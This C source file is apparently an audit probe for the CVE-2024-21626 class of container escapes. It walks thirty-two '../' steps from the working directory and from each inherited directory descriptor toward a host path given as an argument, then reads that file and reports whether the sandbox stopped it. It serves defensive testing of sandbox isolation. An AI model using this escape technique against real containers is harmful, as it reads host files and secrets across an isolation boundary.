/* Audit program: the CVE-2024-21626 class (a host directory leaked to the sandboxed process as its
 * working directory or an inherited fd): walks `..` from the cwd and from every inherited
 * directory fd towards an absolute host path, and reads it. */
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "audit.h"

/* "../" x 32 + TARGET without its leading slash: reaches TARGET from any depth. */
static void walk_path(char *out, size_t size, const char *target) {
  out[0] = 0;
  for (int i = 0; i < 32; i++)
    strncat(out, "../", size - strlen(out) - 1);
  strncat(out, target[0] == '/' ? target + 1 : target, size - strlen(out) - 1);
}

static int read_from(int dirfd, const char *rel, const char *how) {
  int fd = openat(dirfd, rel, O_RDONLY);
  if (fd < 0)
    return -1;
  static char buf[4096];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n <= 0)
    return -1;
  buf[n] = 0;
  if (buf[n - 1] == '\n')
    buf[n - 1] = 0;
  char detail[4200];
  snprintf(detail, sizeof detail, "%s: %s", how, buf);
  audit_ok(detail);
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 3)
    return 2;
  audit_nonce = argv[1];
  static char rel[4096];
  walk_path(rel, sizeof rel, argv[2]);
  if (read_from(AT_FDCWD, rel, "through the working directory") == 0)
    return 0;
  for (int fd = 3; fd < 256; fd++) {
    struct stat st;
    char how[64];
    snprintf(how, sizeof how, "through inherited fd %d", fd);
    if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) && read_from(fd, rel, how) == 0)
      return 0;
  }
  errno = ENOENT;
  audit_denied("every `..` walk from the cwd and inherited directory fds");
  return 1;
}
